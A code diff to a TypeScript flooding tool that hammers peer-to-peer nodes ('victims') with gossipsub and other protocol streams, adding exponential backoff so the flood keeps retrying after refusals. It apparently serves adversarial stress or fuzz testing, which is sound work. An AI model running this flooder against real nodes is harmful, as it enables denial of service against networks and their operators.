@@ -20,6 +20,7 @@ import { mutateFrame } from './mutate-frame.ts';
 
 const GOSSIP_PROTOCOL = '/meshsub/1.1.0';
 const BURST = 50;
+const LONGEST_PAUSE_MILLISECONDS = 400;
 /** A hostile sender does not wait either, but must not fill its own memory. */
 const PAUSE_ABOVE_BYTES = 4 * 1024 * 1024;
 
@@ -76,20 +77,34 @@ async function flood(kind: FloodKind, seconds: number): Promise<number> {
   return floodStreams(kind, goesOn);
 }
 
+/** How long it waits before it tries again: longer each time that it is refused, as each try takes a core of both sides for a while. */
+function createPatience(shortest: number): { refused(): Promise<void>; letIn(): void } {
+  let wait = shortest;
+  return {
+    async refused() {
+      await pause(wait);
+      wait = Math.min(2 * wait, LONGEST_PAUSE_MILLISECONDS);
+    },
+    letIn: () => void (wait = shortest),
+  };
+}
+
 /** Opens the stream again when it is reset, until it is refused. */
 async function floodStream(make: Make, goesOn: () => boolean): Promise<number> {
+  const patience = createPatience(50);
   let sent = 0;
   while (goesOn()) {
     try {
       const connection = await connect(victims[0] ?? '');
       const stream = await connection.newStream(GOSSIP_PROTOCOL);
+      patience.letIn();
       while (goesOn() && stream.status === 'open') {
         for (let i = 0; i < BURST; i++) stream.send(make(sent++));
         do await pause(stream.writeBufferLength > PAUSE_ABOVE_BYTES ? 20 : 0);
         while (stream.writeBufferLength > PAUSE_ABOVE_BYTES && stream.status === 'open' && goesOn());
       }
     } catch {
-      await pause(50);
+      await patience.refused();
     }
   }
   return sent;
@@ -128,6 +143,7 @@ const STREAM_KINDS: Partial<Record<FloodKind, { protocol: string; say(stream: St
 
 async function floodStreams(kind: FloodKind, goesOn: () => boolean): Promise<number> {
   const { protocol, say } = STREAM_KINDS[kind] ?? { protocol: ADDRESS_PROTOCOL, say: () => {} };
+  const patience = createPatience(20);
   let sent = 0;
   while (goesOn()) {
     try {
@@ -135,9 +151,10 @@ async function floodStreams(kind: FloodKind, goesOn: () => boolean): Promise<num
       while (goesOn() && connection.status === 'open') {
         sent += 1;
         say(await connection.newStream(protocol, { signal: AbortSignal.timeout(2_000) }));
+        patience.letIn();
       }
     } catch {
-      await pause(20);
+      await patience.refused();
     }
   }
   return sent;
